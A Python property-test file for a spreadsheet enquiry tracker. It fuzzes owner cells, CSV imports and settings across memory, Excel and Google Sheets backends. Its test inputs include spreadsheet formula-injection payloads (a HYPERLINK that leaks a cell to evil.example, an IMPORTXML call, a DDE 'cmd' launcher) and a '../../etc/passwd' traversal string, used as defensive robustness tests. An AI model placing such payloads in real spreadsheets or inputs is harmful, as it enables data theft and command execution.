"""Bad input never costs the owner a cell: property tests over owner cells, CSV, add and Settings.

The properties, run with hypothesis over the memory backend (many examples),
the Excel backend (fewer: each example writes a file) and Google Sheets
through the fake API (a handful):

* whatever the owner typed, ``refresh`` finishes, leaves every owner cell
  (and the other tabs) as it was, fills only blank IDs with new ones, and
  names every cell it could not read in that row's Problems, starting with
  the column's header;
* ``import`` and ``add`` of arbitrary text either succeed or stop with one
  :class:`InputError` line, and a failure appends nothing;
* arbitrary values in the Settings tab either work or stop with one
  :class:`SettingsError` line naming the cell, and nothing is written.

Which cells "could not be read" is decided here, from the issue's rules, not
by asking the code under test: a formula or an error value where a date or
an amount belongs, text with no digit in a date or number column, a boolean
or a time where a date belongs, a negative amount, a status that is not one
of the four words, and so on (:func:`must_be_named`).  A second check ties the
engine's own reading to its Problems: a non-blank cell it read as nothing
must be named.

The example counts are published in docs/reliability.md; keep them in step.
"""

from __future__ import annotations

import csv
import datetime as dt
import math
import re
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from sheetcrm import tracker
from sheetcrm.backends.base import Backend
from sheetcrm.backends.excel import ExcelBackend
from sheetcrm.backends.memory import MemoryBackend, MemoryTab
from sheetcrm.errors import InputError, SettingsError
from sheetcrm.model import STATUSES, CellValue, Grid
from sheetcrm.template import load_template
from tests.helpers.xlsx import RawCell, same_columns, xlsx_cells, xlsx_columns

pytestmark = pytest.mark.slow  # hypothesis over every backend: a minute or more

NOW = dt.datetime(2026, 11, 2, 10, 0)  # Monday 2 November 2026, 10:00 in Kampala
TEMPLATE = load_template()
OWNER = [c.header for c in TEMPLATE.owner_columns()]
COMPUTED = [c.header for c in TEMPLATE.computed_columns()]
EXTRA = "Owner's own column"
KEY = {c.header: c.key for c in TEMPLATE.enquiries.columns}
SOURCES = {" ".join(s.split()).casefold() for s in TEMPLATE.tab("lists").sources}
MAX_SERIAL = 2958465  # 31/12/9999, the largest date a spreadsheet holds

#: Examples tried per property (docs/reliability.md quotes these numbers).
EXAMPLES = {
    "owner cells, memory": 500,
    "owner cells, Excel": 50,
    "owner cells, Google": 10,
    "import, memory": 300,
    "import, Excel": 40,
    "add, memory": 300,
    "add, Excel": 40,
    "settings, memory": 300,
    "settings, Excel": 30,
}

# --------------------------------------------------------------------------- values

FORMULAS = ["=1+1", '=HYPERLINK("https://evil.example/?d="&B2,"Click")', "=NOW()", "=A1",
            "=1/0", "=SUM(A:A)", '=IMPORTXML("https://evil.example","//a")', "=cmd|' /C calc'!A0"]
ERRORS = ["#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?", "#NUM!", "#NULL!"]
EMOJI = ["\U0001f600", "\U0001f44d\U0001f3fe", "\U0001f1fa\U0001f1ec",
         "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f64f asante sana"]
SCRIPTS = ["Nakato Ssali", "\u0645\u062d\u0645\u062f", "\u12a0\u1260\u1260", "\u4e2d\u6587",
           "\u0939\u093f\u0928\u094d\u0926\u0940", "O\u2019Brien \u2013 \u00e9t\u00e9",
           "\u202eevil\u202c", "a\tb\nc"]
PLAUSIBLE = ["14/10/2026 09:00", "14/10/2026", "14-10-2026 9:00 am", "2026-10-14 09:00",
             "14 Oct 2026 09:00", "0772 123456", "+256 701 234567", "256772123456", "WhatsApp",
             " whatsapp ", "Walk-in", "pending", "Contacted ", "CONVERTED", "lost", "1,200,000",
             "UGX 250,000", "2", "0", "3", "Sarah N.", "sarah@example.com", "@kato_salon",
             "E0007", "e0003", "-250000", "1.5"]


class LongText(str):
    """Long text whose repr stays short, so a failing example can still be printed."""

    __slots__ = ()

    def __repr__(self) -> str:
        return f"LongText({str(self)[:20]!r}..., {len(self)} characters)"


def _excel_text(text: str) -> str:
    """Text the owner could have typed in Excel: no control characters, at most 32,767."""
    return str(ILLEGAL_CHARACTERS_RE.sub("", text))[:32767]


def cell_values(*, excel: bool) -> st.SearchStrategy[CellValue]:
    """Anything an owner can leave in a cell of the backend (Excel cannot hold NaN or inf)."""
    text = st.text(max_size=60)
    def long(s: str, n: int) -> str:
        return LongText((_excel_text(s * n) if excel else s * n)[:32767])

    long_text = st.builds(long, st.text(min_size=1, max_size=4), st.integers(200, 9000))
    if excel:
        text = text.map(_excel_text)
    moments = st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 12, 31))
    if excel:
        moments = moments.map(lambda m: m.replace(microsecond=0))  # Excel keeps milliseconds
    return st.one_of(
        st.none(),
        st.sampled_from(["", "   "]),
        text,
        long_text,
        st.sampled_from(EMOJI + [_excel_text(s) if excel else s for s in SCRIPTS]),
        st.sampled_from(FORMULAS),
        st.sampled_from(ERRORS),
        st.sampled_from(PLAUSIBLE),
        st.booleans(),
        st.integers(-(10**18), 10**18),
        st.sampled_from([9.99e307, -9.99e307, 2.0**53 + 1, 5e-324, -0.0, 46310.5, 0.5,
                         2958466.0]),
        # Excel holds numbers up to 9.99e307, and no NaN or infinity.
        st.floats(min_value=-9.99e307, max_value=9.99e307) if excel else st.floats(),
        moments,
        st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 12, 31)),
        st.times().map(lambda t: t.replace(microsecond=0) if excel else t),
    )


def owner_rows(*, excel: bool) -> st.SearchStrategy[list[dict[str, CellValue] | None]]:
    """A few rows, some blank in the middle, each filling any owner columns (and one of theirs)."""
    values = cell_values(excel=excel)
    row = st.fixed_dictionaries({}, optional={h: values for h in [*OWNER, EXTRA]})
    return st.lists(st.one_of(st.none(), row), min_size=1, max_size=6)


# --------------------------------------------------------------------------- the oracle


def blank(value: object) -> bool:
    """Empty as the owner sees it: nothing, or only spaces."""
    return value is None or (isinstance(value, str) and not value.strip())


def _number(value: object) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def must_be_named(header: str, value: object) -> bool:
    """Whether the issue's rules say this cell cannot be read (so Problems must name it)."""
    if blank(value):
        return False
    key = KEY.get(header)
    text = value.strip() if isinstance(value, str) else None
    formula_or_error = text is not None and (text.startswith("=") or text.upper() in ERRORS)
    no_digit = text is not None and not any(ch.isdigit() for ch in text)
    moment = isinstance(value, dt.date | dt.time)
    if key in ("received", "first_contact"):
        if _number(value):
            number = float(value)  # type: ignore[arg-type]
            # Serials run from 1 (01/01/1900) to 31/12/9999; the day after is off the end.
            return not (math.isfinite(number) and 1 <= number <= MAX_SERIAL + 1)
        return isinstance(value, bool | dt.time) or formula_or_error or no_digit
    if key == "follow_ups_done":
        if _number(value):
            number = float(value)  # type: ignore[arg-type]
            return not (math.isfinite(number) and number.is_integer() and 0 <= number <= 3)
        if text is not None and text.isascii() and text.isdigit():
            # Compared as text: int() refuses strings of over 4,300 digits.
            digits = text.lstrip("0")
            return len(digits) > 1 or digits > "3"
        return isinstance(value, bool) or moment or formula_or_error or no_digit
    if key == "value":
        if _number(value):
            return not math.isfinite(float(value)) or float(value) < 0  # type: ignore[arg-type]
        negative = text is not None and re.fullmatch(r"-\s*\d[\d,]*", text) is not None
        return isinstance(value, bool) or moment or formula_or_error or no_digit or negative
    if key == "status":
        return not (text is not None and text.casefold() in STATUSES)
    if key == "source":
        return not (text is not None and " ".join(text.split()).casefold() in SOURCES)
    if key == "contact":
        if _number(value):
            number = float(value)  # type: ignore[arg-type]
            return not (math.isfinite(number) and number.is_integer() and number > 0)
        return isinstance(value, bool) or moment or formula_or_error
    return False


def names(problems: Sequence[str], header: str) -> bool:
    """Whether one of the row's problems is about this column (they start with its header)."""
    return any(p.startswith(header + " ") for p in problems)


def check_problems(written: Mapping[int, Mapping[str, CellValue]],
                   evaluation: tracker.Evaluation,
                   problems_cells: Mapping[int, object]) -> None:
    """Every unreadable cell is named in its row's Problems, in the JSON and on the sheet."""
    results = {r.row: r for r in evaluation.rows}
    for row, values in written.items():
        if all(blank(values.get(h)) for h in OWNER):
            assert row not in results, f"row {row} has no owner value but was evaluated"
            continue
        result = results[row]
        for header, value in values.items():
            if must_be_named(header, value):
                assert names(result.problems, header), (row, header, value, result.problems)
        # The engine's own reading: a non-blank cell it read as nothing must be explained.
        parsed = {"Received": result.received, "First contact": result.first_contact,
                  "Status": result.status, "Follow-ups done": result.follow_ups_done}
        for header, value in parsed.items():
            if value is None and not blank(values.get(header)):
                assert names(result.problems, header), (row, header, values.get(header))
        shown = problems_cells.get(row)
        assert shown == ("; ".join(result.problems) if result.problems else None), (row, shown)


def _key(value: object) -> object:
    """A comparable identity: True is not 1, and NaN equals NaN."""
    if isinstance(value, float) and math.isnan(value):
        return ("nan",)
    if isinstance(value, str):
        return ("str", str(value))
    return (type(value).__name__, value)


def check_ids(before: Mapping[int, object], after: Mapping[int, object],
              enquiry_rows: set[int]) -> None:
    """A typed ID is kept; a blank one on an enquiry row gets a new ID no other row has."""
    typed = {str(v).strip().casefold() for v in before.values() if isinstance(v, str)}
    new = []
    for row in set(before) | set(after):
        was, now = before.get(row), after.get(row)
        if not blank(was):
            assert _key(now) == _key(was), (row, was, now)
        elif row in enquiry_rows:
            assert isinstance(now, str) and re.fullmatch(r"E\d{4,}", now), (row, now)
            new.append(now.casefold())
        else:
            assert blank(now), (row, now)
    assert len(new) == len(set(new)), new
    assert not typed & set(new), (typed, new)


# --------------------------------------------------------------------------- grids


def column_values(grid: Grid, header: str) -> dict[int, CellValue]:
    """Row number -> value of the column with this header (found by header, not position)."""
    heads = [h.strip() if isinstance(h, str) else h for h in grid[0]]
    col = heads.index(header)
    return {r: row[col] for r, row in enumerate(grid[1:], start=2)
            if col < len(row) and row[col] is not None}


def owner_snapshot(grid: Grid) -> dict[str, dict[int, object]]:
    """The owner columns (but ID) and the owner's own column, as comparable keys."""
    # "" and nothing are the same cell: Google (and the memory double) trim trailing "".
    return {h: {r: _key(v) for r, v in column_values(grid, h).items() if v != ""}
            for h in [*OWNER, EXTRA] if h != "ID"}


def check_refresh_on_grids(backend: Backend, written: Mapping[int, Mapping[str, CellValue]],
                           before: Mapping[str, Grid]) -> tracker.Evaluation:
    """Refresh a backend holding ``written`` and check the properties on its grids."""
    evaluation = tracker.refresh(backend, now=NOW)
    after = backend.read().tabs
    assert owner_snapshot(after["Enquiries"]) == owner_snapshot(before["Enquiries"])
    for tab in ("Settings", "Lists"):
        assert after[tab] == before[tab]
    enquiry_rows = {r.row for r in evaluation.rows}
    check_ids(column_values(before["Enquiries"], "ID"), column_values(after["Enquiries"], "ID"),
              enquiry_rows)
    check_problems(written, evaluation, column_values(after["Enquiries"], "Problems"))
    return evaluation


# --------------------------------------------------------------------------- owner cells


@settings(max_examples=EXAMPLES["owner cells, memory"], deadline=None)
@given(rows=owner_rows(excel=False), order=st.permutations([*OWNER, *COMPUTED, EXTRA]))
def test_refresh_keeps_and_explains_any_owner_cells_in_memory(
        rows: list[dict[str, CellValue] | None], order: list[str]) -> None:
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    # The owner has also reordered every column: sheetcrm finds them by header.
    grid: Grid = [list(order)]
    grid += [[(row or {}).get(h) for h in order] for row in rows]
    backend.tabs["Enquiries"] = MemoryTab(values=grid)
    written = {r: dict(row or {}) for r, row in enumerate(rows, start=2)}
    check_refresh_on_grids(backend, written, backend.read().tabs)


@pytest.fixture(scope="module")
def blank_xlsx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A new tracker, made once and copied for every example."""
    path = tmp_path_factory.mktemp("blank") / "tracker.xlsx"
    tracker.init_tracker(ExcelBackend(path))
    return path


def type_into_xlsx(path: Path, rows: Sequence[Mapping[str, CellValue] | None]) -> None:
    """Type values as the owner would in Excel: "=..." becomes a formula, "#N/A" an error."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Enquiries"]
    cols = {c.value: c.column for c in ws[1] if c.value is not None}
    cols[EXTRA] = max(cols.values()) + 1
    ws.cell(row=1, column=cols[EXTRA]).value = EXTRA
    for r, row in enumerate(rows, start=2):
        for header, value in (row or {}).items():
            ws.cell(row=r, column=cols[header]).value = value
    wb.save(path)


def problems_on_sheet(path: Path) -> dict[int, object]:
    """The Problems column as the file holds it."""
    cells = xlsx_columns(path, "Enquiries", ["Problems"])["Problems"]
    return {r: c.value for r, c in cells.items()}


@settings(max_examples=EXAMPLES["owner cells, Excel"], deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(rows=owner_rows(excel=True))
def test_refresh_keeps_and_explains_any_owner_cells_in_excel(
        tmp_path_factory: pytest.TempPathFactory, blank_xlsx: Path,
        rows: list[dict[str, CellValue] | None]) -> None:
    path = tmp_path_factory.mktemp("owner") / "tracker.xlsx"
    path.write_bytes(blank_xlsx.read_bytes())
    type_into_xlsx(path, rows)
    headers = [h for h in [*OWNER, EXTRA] if h != "ID"]
    before = xlsx_columns(path, "Enquiries", headers)
    before_ids = xlsx_columns(path, "Enquiries", ["ID"])["ID"]
    others = {tab: xlsx_cells(path, tab) for tab in ("Settings", "Lists")}

    evaluation = tracker.refresh(ExcelBackend(path), now=NOW)

    assert same_columns(xlsx_columns(path, "Enquiries", headers), before)
    for tab, cells in others.items():
        now = xlsx_cells(path, tab)
        assert now.keys() == cells.keys() and all(c.same_as(now[k]) for k, c in cells.items())
    after_ids = xlsx_columns(path, "Enquiries", ["ID"])["ID"]

    def plain(cells: Mapping[int, RawCell]) -> dict[int, object]:
        return {r: c.value if c.kind == "text" else (c.kind, c.value) for r, c in cells.items()}

    check_ids(plain(before_ids), plain(after_ids), {r.row for r in evaluation.rows})
    written = {r: dict(row or {}) for r, row in enumerate(rows, start=2)}
    check_problems(written, evaluation, problems_on_sheet(path))


@settings(max_examples=EXAMPLES["owner cells, Google"], deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(rows=owner_rows(excel=False).map(
    # JSON has no NaN or infinity, so a Google cell cannot hold them.
    lambda rows: [None if r is None else {h: v for h, v in r.items()
                                          if not (isinstance(v, float) and not math.isfinite(v))}
                  for r in rows]))
def test_refresh_keeps_and_explains_any_owner_cells_in_google(
        rows: list[dict[str, CellValue] | None]) -> None:
    from tests.helpers.google import google_tracker

    fake, key, backend = google_tracker()
    # Google holds a date or a time as a plain serial number (its format says "date"), and
    # the backend reads UNFORMATTED_VALUE: the owner's cell, for the oracle, is that number.
    rows = [None if row is None else {h: _as_google(v) for h, v in row.items()} for row in rows]
    header = [str(v) for v in fake.get_values(key, "Enquiries")[0]] + [EXTRA]
    grid = [header] + [["" if (v := (row or {}).get(h)) is None else v for h in header]
                       for row in rows]
    # RAW: stored exactly as sent, so "=1+1" is the text a formula-shy phone keyboard leaves.
    fake.set_values(key, "Enquiries", "A1", grid, input="RAW")
    written = {r: dict(row or {}) for r, row in enumerate(rows, start=2)}
    check_refresh_on_grids(backend, written, backend.read().tabs)


def _as_google(value: CellValue) -> CellValue:
    """The serial number a Sheets cell holds for a date, date-time or time of day."""
    if isinstance(value, dt.datetime):
        return (value - dt.datetime(1899, 12, 30)) / dt.timedelta(days=1)
    if isinstance(value, dt.date):
        return float((value - dt.date(1899, 12, 30)).days)
    if isinstance(value, dt.time):
        return (value.hour * 3600 + value.minute * 60 + value.second
                + value.microsecond / 1e6) / 86400
    return value


# --------------------------------------------------------------------------- import and add

FIELD_TEXT = st.one_of(st.text(max_size=40), st.sampled_from(PLAUSIBLE + FORMULAS + ERRORS),
                       st.sampled_from(EMOJI + SCRIPTS))
CSV_HEADERS = st.one_of(
    st.sampled_from(OWNER).flatmap(
        lambda h: st.sampled_from([h, h.upper(), h.lower(), f"  {h} "])),
    st.text(max_size=12),
)
#: What an owner would type in each field, so that imports and adds also succeed often.
TYPICAL: dict[str, st.SearchStrategy[str]] = {
    "received": st.sampled_from(["30/10/2026 15:00", "2026-10-30 15:00", "30 Oct 2026 3:00 pm",
                                 "02/11/2026", " 1/11/2026 09:05 "]),
    "first_contact": st.sampled_from(["", "30/10/2026 16:00", "31/10/2026 09:30"]),
    "name": st.one_of(st.text(min_size=1, max_size=40),
                      st.sampled_from(SCRIPTS + EMOJI + FORMULAS)),
    "contact": st.sampled_from(["0772 123456", "+256 701 234567", "sarah@example.com",
                                "@kato_salon", "", "=1+1"]),
    "source": st.sampled_from(["WhatsApp", " walk-in ", "Referral", ""]),
    "status": st.sampled_from(["pending", "Contacted", "CONVERTED", "lost", ""]),
    "follow_ups_done": st.sampled_from(["0", "1", "3", ""]),
    "value": st.sampled_from(["250000", "1,200,000", "UGX 50,000", "", "0"]),
    "notes": st.one_of(st.text(max_size=60), st.sampled_from(FORMULAS + ERRORS + SCRIPTS)),
    "id": st.sampled_from(["", "E0100", "e0101"]),
}


#: Two enquiries already in the tracker before an import or an add.
EXISTING: list[dict[str, CellValue]] = [
    {"Received": dt.datetime(2026, 10, 30, 15), "Name": "Alice A.", "Contact": "0772 123456",
     "Source": "WhatsApp", "Status": "pending"},
    {"Received": dt.datetime(2026, 11, 2, 9), "Name": "Bob B.", "Source": "Walk-in"},
]


@st.composite
def typed_fields(draw: st.DrawFn, keys: Sequence[str | None]) -> list[str]:
    """One value per key: what an owner types, with anything at all in one or two of them."""
    wild = draw(st.sets(st.integers(0, max(0, len(keys) - 1)), max_size=2))
    return [draw(FIELD_TEXT if i in wild else TYPICAL.get(k or "", FIELD_TEXT))
            for i, k in enumerate(keys)]


@st.composite
def csv_files(draw: st.DrawFn) -> bytes:
    """A CSV file's bytes: a header of tracker columns and records, sometimes junk."""
    kind = draw(st.integers(0, 9))
    if kind == 0:
        return draw(st.binary(max_size=200))
    more = draw(st.lists(st.sampled_from(OWNER), max_size=5, unique=True))
    headers = draw(st.permutations(["Received", "Name",
                                    *(h for h in more if h not in ("Received", "Name"))]))
    if kind == 1:  # a column sheetcrm does not know, or a second Name column
        headers.insert(draw(st.integers(0, len(headers))), draw(CSV_HEADERS))
    spelt = [draw(st.sampled_from([h, h.upper(), h.lower(), f"  {h} "])) for h in headers]
    keys = [KEY.get(h) for h in headers]
    records = draw(st.lists(typed_fields(keys), max_size=4))
    if records and kind == 2:  # a ragged line
        records[-1] = records[-1][: draw(st.integers(0, len(headers) + 1))] + ["extra"]
    return _csv_text([spelt, *records]).encode(draw(st.sampled_from(["utf-8", "utf-8-sig"])))


def _csv_text(lines: list[list[str]]) -> str:
    import io

    out = io.StringIO()
    csv.writer(out).writerows(lines)
    return out.getvalue()


def _parsed(data: bytes) -> tuple[list[str], list[list[str]]] | None:
    """The CSV's header and non-blank data lines as Python reads them, or None if unreadable."""
    import io

    try:
        lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    except (UnicodeDecodeError, csv.Error):
        return None
    if not lines:
        return None
    return lines[0], [line for line in lines[1:] if any(cell.strip() for cell in line)]


def one_line(exc: Exception) -> bool:
    """A message the CLI can print as one line."""
    text = str(exc)
    return bool(text) and "\n" not in text and "\r" not in text


def check_import(backend: Backend, path: Path, data: bytes,
                 unchanged: Callable[[], bool]) -> None:
    """Import ``data``: either every record is appended or nothing is, with one line of error."""
    path.write_bytes(data)
    before = backend.read().tabs["Enquiries"]
    last = max(r for r, row in enumerate(before, start=1)
               if any(not blank(row[i]) for i, h in enumerate(before[0])
                      if i < len(row) and h in OWNER))
    try:
        # Identical lines are the same enquiry, skipped by default (tested in
        # test_cli_import); here every line must land or none.
        written = tracker.import_enquiries(backend, path, now=NOW, allow_duplicates=True).rows
    except InputError as exc:
        assert one_line(exc), str(exc)
        assert unchanged(), "a failed import changed the tracker"
        event("import refused")
        return
    event("import done")
    parsed = _parsed(data)
    assert parsed is not None
    header, records = parsed
    assert written == list(range(last + 1, last + 1 + len(records)))
    names = column_values(backend.read().tabs["Enquiries"], "Name")
    keys = [h.strip().casefold() for h in header]
    if keys.count("name") == 1:  # two Name columns are a separate case, tested below
        col = keys.index("name")
        for row, record in zip(written, records, strict=True):
            typed = record[col] if col < len(record) else ""
            # add and import store a line break in a cell as "\n", whatever the file had.
            typed = typed.replace("\r\n", "\n").replace("\r", "\n").strip()
            assert names.get(row) == typed, (row, typed, names.get(row))


@settings(max_examples=EXAMPLES["import, memory"], deadline=None)
@given(data=csv_files())
def test_import_of_any_csv_is_all_or_nothing_in_memory(
        tmp_path_factory: pytest.TempPathFactory, data: bytes) -> None:
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    backend.append(EXISTING)
    snapshot = backend.read().tabs
    path = tmp_path_factory.mktemp("csv") / "enquiries.csv"
    check_import(backend, path, data, lambda: backend.read().tabs == snapshot)


@settings(max_examples=EXAMPLES["import, Excel"], deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(data=csv_files())
def test_import_of_any_csv_is_all_or_nothing_in_excel(
        tmp_path_factory: pytest.TempPathFactory, blank_xlsx: Path, data: bytes) -> None:
    folder = tmp_path_factory.mktemp("csv")
    path = folder / "tracker.xlsx"
    path.write_bytes(blank_xlsx.read_bytes())
    ExcelBackend(path).append(EXISTING)
    original = path.read_bytes()
    check_import(ExcelBackend(path), folder / "enquiries.csv", data,
                 lambda: path.read_bytes() == original)


ADD_FIELDS = ("name", "contact", "source", "received", "status", "first_contact", "value",
              "notes")


def check_add(backend: Backend, fields: dict[str, str], unchanged: Callable[[], bool]) -> None:
    """Add one enquiry: either it lands on the next row as typed, or one line and no change."""
    before = backend.read().tabs["Enquiries"]
    rows_before = max(column_values(before, "Name"))
    try:
        row = tracker.add_enquiry(backend, fields, now=NOW)
    except InputError as exc:
        assert one_line(exc), str(exc)
        assert unchanged(), "a failed add changed the tracker"
        event("add refused")
        return
    event("add done")
    assert row == rows_before + 1
    after = backend.read().tabs["Enquiries"]
    def typed(text: str) -> str:
        # Line breaks of any kind are stored as "\n" (an .xlsx cannot keep "\r").
        return text.replace("\r\n", "\n").replace("\r", "\n").strip()

    assert column_values(after, "Name")[row] == typed(fields["name"])
    if typed(fields["notes"]):
        assert column_values(after, "Notes")[row] == typed(fields["notes"])


@settings(max_examples=EXAMPLES["add, memory"], deadline=None)
@given(fields=typed_fields(ADD_FIELDS).map(lambda values: dict(zip(ADD_FIELDS, values,
                                                                   strict=True))))
def test_add_of_any_text_is_all_or_nothing_in_memory(fields: dict[str, str]) -> None:
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    backend.append(EXISTING)
    snapshot = backend.read().tabs
    check_add(backend, fields, lambda: backend.read().tabs == snapshot)


@settings(max_examples=EXAMPLES["add, Excel"], deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(fields=typed_fields(ADD_FIELDS).map(lambda values: dict(zip(ADD_FIELDS, values,
                                                                   strict=True))))
def test_add_of_any_text_is_all_or_nothing_in_excel(
        tmp_path_factory: pytest.TempPathFactory, blank_xlsx: Path,
        fields: dict[str, str]) -> None:
    path = tmp_path_factory.mktemp("add") / "tracker.xlsx"
    path.write_bytes(blank_xlsx.read_bytes())
    ExcelBackend(path).append(EXISTING)
    original = path.read_bytes()
    check_add(ExcelBackend(path), fields, lambda: path.read_bytes() == original)


# --------------------------------------------------------------------------- Settings

SETTING_LABELS = [s.label for s in TEMPLATE.tab("settings").settings]
DATE_LISTS = [d.header for d in TEMPLATE.tab("settings").date_lists]
SETTING_VALUES: st.SearchStrategy[CellValue] = st.one_of(
    st.none(),
    st.text(max_size=30),
    st.sampled_from(["08:00-18:00", "closed", "9am-5pm", "18:00-08:00", "25:00-26:00",
                     "Africa/Nairobi", "africa/kampala", "America", "Europe", "Etc",
                     "a" * 300, "../../etc/passwd", "UG", "ke", "XX", "UGX", "4", "0", "-1",
                     "169", "2, 4, 7", "7, 4, 2", "2;4", "1e9", "24/12/2026", "31/02/2026",
                     *FORMULAS, *ERRORS]),
    st.booleans(),
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False, min_value=-9.99e307, max_value=9.99e307),
    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 12, 31))
    .map(lambda m: m.replace(microsecond=0)),
    st.times().map(lambda t: t.replace(microsecond=0)),
)


def settings_cell(grid: Grid, name: str) -> tuple[int, int]:
    """(row, column) of a setting's value cell, found by its label or its list's header."""
    for c, value in enumerate(grid[0], start=1):
        if value == name:
            return 2, c  # the first date of that list
    for r, row in enumerate(grid, start=1):
        if row and row[0] == name:
            return r, 2
    raise AssertionError(f"no {name!r} on the Settings tab")


def check_bad_setting(run: Callable[[], object], where: str, unchanged: Callable[[], bool]) -> None:
    """Either the refresh works, or it stops with one SettingsError line naming ``where``."""
    try:
        run()
    except SettingsError as exc:
        assert one_line(exc), str(exc)
        assert where in str(exc), (where, str(exc))
        assert unchanged(), "a refresh that stopped on a bad setting wrote something"
        event("setting refused")
        return
    event("setting accepted")


@settings(max_examples=EXAMPLES["settings, memory"], deadline=None)
@given(name=st.sampled_from(SETTING_LABELS + DATE_LISTS), value=SETTING_VALUES)
@example(name="Time zone", value="America")
@example(name="Time zone", value="a" * 300)
def test_any_settings_value_works_or_names_its_cell_in_memory(name: str, value: CellValue) -> None:
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    backend.append(EXISTING)
    row, col = settings_cell(backend.read().tabs["Settings"], name)
    backend.set_cell("Settings", row, col, value)
    snapshot = backend.read().tabs
    where = f"Settings!{'ABCDEF'[col - 1]}{row}"
    check_bad_setting(lambda: tracker.refresh(backend, now=NOW), where,
                      lambda: backend.read().tabs == snapshot)


@settings(max_examples=EXAMPLES["settings, Excel"], deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(name=st.sampled_from(SETTING_LABELS + DATE_LISTS),
       value=SETTING_VALUES.map(lambda v: _excel_text(v) if isinstance(v, str) else v))
def test_any_settings_value_works_or_names_its_cell_in_excel(
        tmp_path_factory: pytest.TempPathFactory, blank_xlsx: Path, name: str,
        value: CellValue) -> None:
    path = tmp_path_factory.mktemp("settings") / "tracker.xlsx"
    path.write_bytes(blank_xlsx.read_bytes())
    ExcelBackend(path).append(EXISTING)
    row, col = settings_cell(ExcelBackend(path).read().tabs["Settings"], name)
    wb = openpyxl.load_workbook(path)
    wb["Settings"].cell(row=row, column=col).value = value
    wb.save(path)
    original = path.read_bytes()
    where = f"Settings!{'ABCDEF'[col - 1]}{row}"
    check_bad_setting(lambda: tracker.refresh(ExcelBackend(path), now=NOW), where,
                      lambda: path.read_bytes() == original)


@pytest.mark.parametrize("zone", ["America", "Europe", "a" * 300],
                         ids=["folder", "another folder", "too long"])
def test_a_time_zone_that_is_not_a_zone_file_is_a_settings_error(zone: str) -> None:
    # "America" is a folder of zone files and a 300-letter name is too long for a file
    # name: both must read as a bad setting, like any other unknown name.
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    row, _ = settings_cell(backend.read().tabs["Settings"], "Time zone")
    backend.set_cell("Settings", row, 2, zone)
    with pytest.raises(SettingsError, match=f"Settings!B{row}"):
        tracker.refresh(backend, now=NOW)


# --------------------------------------------------------------------------- the smallest cases
# What the properties above found, each on its own so the failure says what to fix.


@pytest.mark.parametrize("typed", ["=1+1", '=HYPERLINK("https://evil.example","Call")',
                                   "#REF!", "#N/A"])
def test_a_formula_or_an_error_in_contact_is_named_in_problems(typed: str) -> None:
    # A formula or an error value is no phone number, email or handle: the owner should
    # hear that the Contact cell is broken, as for any other column sheetcrm reads.
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    backend.append([{**EXISTING[0], "Contact": typed}])
    evaluation = tracker.refresh(backend, now=NOW)
    assert names(evaluation.rows[0].problems, "Contact"), evaluation.rows[0].problems


@pytest.mark.parametrize("kind", ["memory", "excel", "google"])
def test_an_id_of_only_spaces_is_filled_like_a_blank_one(kind: str, tmp_path: Path) -> None:
    # The engine treats "   " as a blank ID and reports a new one; the sheet must show it,
    # or the next refresh would issue yet another ID for the same enquiry.
    from tests.helpers.trackers import make_backend

    backend = make_backend(kind, tmp_path)
    tracker.init_tracker(backend)
    backend.append([{**EXISTING[0], "ID": "   "}])
    evaluation = tracker.refresh(backend, now=NOW)
    issued = evaluation.rows[0].id
    assert column_values(backend.read().tabs["Enquiries"], "ID")[2] == issued
    assert tracker.refresh(backend, now=NOW).rows[0].id == issued


def test_a_csv_with_two_columns_for_the_same_field_is_refused(tmp_path: Path) -> None:
    # With two Name columns, one of the two names would be dropped without a word.
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    snapshot = backend.read().tabs
    path = tmp_path / "enquiries.csv"
    path.write_text("Received,Name,Contact,name\n30/10/2026 15:00,Alice A.,0772 123456,"
                    "Alice Achieng\n", encoding="utf-8")
    with pytest.raises(InputError, match="Name") as caught:
        tracker.import_file(backend, path, now=NOW)
    assert one_line(caught.value)
    assert backend.read().tabs == snapshot


def test_a_nan_in_the_id_column_does_not_stop_the_refresh() -> None:
    # Found by the memory property with 3,000 examples: NaN never equals itself, so the
    # check that the ID column did not move failed every time and the refresh gave up.
    backend = MemoryBackend()
    tracker.init_tracker(backend)
    backend.append([EXISTING[0]])
    # A spreadsheet file cannot hold NaN, so only the in-memory sheet can have one typed.
    id_col = backend.tabs["Enquiries"].values[0].index("ID") + 1
    backend.set_cell("Enquiries", 2, id_col, math.nan)
    evaluation = tracker.refresh(backend, now=NOW)
    assert [r.row for r in evaluation.rows] == [2]
